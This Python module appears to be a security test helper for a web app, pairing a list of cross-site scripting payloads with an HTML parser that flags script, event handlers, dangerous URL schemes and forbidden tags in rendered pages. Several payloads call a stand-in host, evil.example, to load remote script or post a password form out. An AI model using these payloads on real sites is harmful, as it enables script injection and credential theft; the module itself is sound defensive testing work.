"""Hostile markup, and a checker that finds anything executable in a page."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name="password"></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<marquee onstart="alert(1)">x</marquee>',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<table background="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ config }}{% for x in range(3) %}x{% endfor %}",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="  javascript:alert(1)">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<button formaction="javascript:alert(1)">x</button>',
]

# Never part of this site's pages: their presence means markup got through.
NEVER_OURS = {
    "iframe", "object", "embed", "base", "frame", "frameset", "applet", "math", "isindex",
    "marquee", "video", "audio", "source", "style",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data"}
MARKERS = ("evil.example", "alert(")


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag in NEVER_OURS:
            self.problems.append(f"<{tag} {attrs}>")
        if tag == "script" and not (found.get("src") or "").startswith("/static/"):
            self.problems.append(f"<script {attrs}>")
        href = found.get("href") or ""
        # The site's own files only: static files, and the app manifest every page names.
        if tag == "link" and not (href.startswith("/static/") or href == "/manifest.webmanifest"):
            self.problems.append(f"<link {attrs}>")
        if tag == "meta" and "http-equiv" in found:
            self.problems.append(f"<meta {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if value and name in URL_ATTRIBUTES:
                cleaned = "".join(value.split()).lower()
                if cleaned.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            # A form or resource pointed somewhere else (plain links to other sites are
            # allowed in lessons, so href is judged by its scheme above only).
            if (
                value
                and name in {"action", "formaction", "src"}
                and any(m in value for m in MARKERS)
            ):
                self.problems.append(f"injected {name}={value!r} on <{tag}>")


def executable_markup(html: str) -> list[str]:
    """What in this page could run script or send data elsewhere; [] when clean.

    Plain text that merely *shows* a payload (escaped) is fine; tags and
    attributes that a browser would act on are not.
    """
    finder = _Finder()
    finder.feed(html)
    return finder.problems
